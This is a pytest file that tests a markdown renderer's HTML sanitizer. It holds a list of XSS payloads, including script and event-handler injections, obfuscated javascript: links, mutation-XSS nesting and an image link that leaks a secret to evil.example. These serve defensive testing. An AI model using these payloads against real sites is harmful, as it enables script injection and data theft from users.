"""What a text becomes, and what it cannot become."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from overskill.markdown import html, render

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](<javascript:alert(1)>)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/?secret)",
    '![x"onerror="alert(1)](https://evil.example/a.png "t\\" onload=x")',
    '<https://evil.example/"onmouseover=alert(1)>',
    "[x]: javascript:alert(1)\n\n[x]",
    '```"><script>alert(1)</script>\ncode\n```',
    '```js"onload="alert(1)\n</code></pre><script>alert(1)</script>\n```',
    "| a |\n|:-:|\n| <style>*{display:none}</style> |",
    "<!-- --!><script>alert(1)</script> -->",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]
TAGS = {"p", "br", "hr", "ul", "ol", "li", "blockquote", "pre", "code", "span", "em", "strong", "s", "a"}
TAGS |= {"h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"}
SIGNS = ["\n", "\n\n", "```", "`", "> ", "- ", '"', "'", "<", ">", "x"]


class Page(HTMLParser):
    """The tags and attributes a browser would see."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def assert_harmless(text: str) -> None:
    for tag, attributes in Page(render(text)).tags:
        assert tag in TAGS
        assert attributes.keys() <= {"href", "title", "rel", "target", "class", "style", "start"}
        assert (attributes.get("href") or "http:").split(":")[0] in {"http", "https", "mailto"} or ":" not in str(
            attributes["href"]
        )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_runs_and_nothing_loads(payload: str) -> None:
    assert_harmless(payload)


@given(st.lists(st.sampled_from(PAYLOADS + SIGNS)).map("".join))
def test_no_mixture_of_payloads_gets_through(text: str) -> None:
    assert_harmless(text)


def test_a_link_opens_elsewhere_and_says_nothing_about_us() -> None:
    [(_, _), (_, link)] = Page(render("[x](https://example.org)")).tags
    assert link == {"href": "https://example.org", "target": "_blank", "rel": "noopener noreferrer nofollow"}


def test_a_picture_is_a_link_to_it() -> None:
    text = render("![A cat](https://example.org/cat.png)")
    assert "<img" not in text
    assert 'href="https://example.org/cat.png"' in text
    assert ">A cat</a>" in text


def test_code_is_highlighted_with_classes_only() -> None:
    text = render("```python\ndef f():\n    pass\n```")
    assert '<code class="language-python"><span class="k">def</span>' in text
    assert "style=" not in text


@pytest.mark.parametrize("language", ["tsx", "jsx", "ts", "vue", "svelte", "bash", "json", "mjs", "tsx:a.tsx", "TSX"])
def test_the_languages_of_the_web_are_known(language: str) -> None:
    assert "<span" in render(f"```{language}\nconst a = <b>1</b>\n```")


@pytest.mark.parametrize("language", ["", "nonsense", "🦄", "x" * 5000, "../../etc"])
def test_an_unknown_language_stays_plain(language: str) -> None:
    text = render(f"```{language}\n<a>\n```")
    assert "&lt;a&gt;" in text
    assert "<span" not in text


def test_very_long_code_stays_plain() -> None:
    assert "<span" not in render("```js\n" + "let a = 1\n" * (html.HIGHLIGHTED // 10 + 1) + "```")


def test_tables_keep_their_alignment_and_nothing_else_of_a_style() -> None:
    text = render("| a | b |\n|--:|---|\n| 1 | 2 |")
    assert '<td style="text-align:right">1</td>' in text
    assert "<td>2</td>" in text


def test_half_a_character_becomes_a_sign_for_it() -> None:
    assert render("a\ud83d") == "<p>a\ufffd</p>\n"


def test_two_halves_are_one_character() -> None:
    assert render("\ud83d" + "\ude00") == "<p>😀</p>\n"


@pytest.mark.parametrize("sign", ["[", "!["])
def test_a_paragraph_of_brackets_is_no_place_for_links(sign: str) -> None:
    many = sign * (html.MOST_MARKS + 1)
    assert render(f"{many}a](b)") == f"<p>{many}a](b)</p>\n"


def test_deep_nesting_is_survived() -> None:
    assert render(">" * 5000 + "a")
    assert render("- " * 5000 + "a")
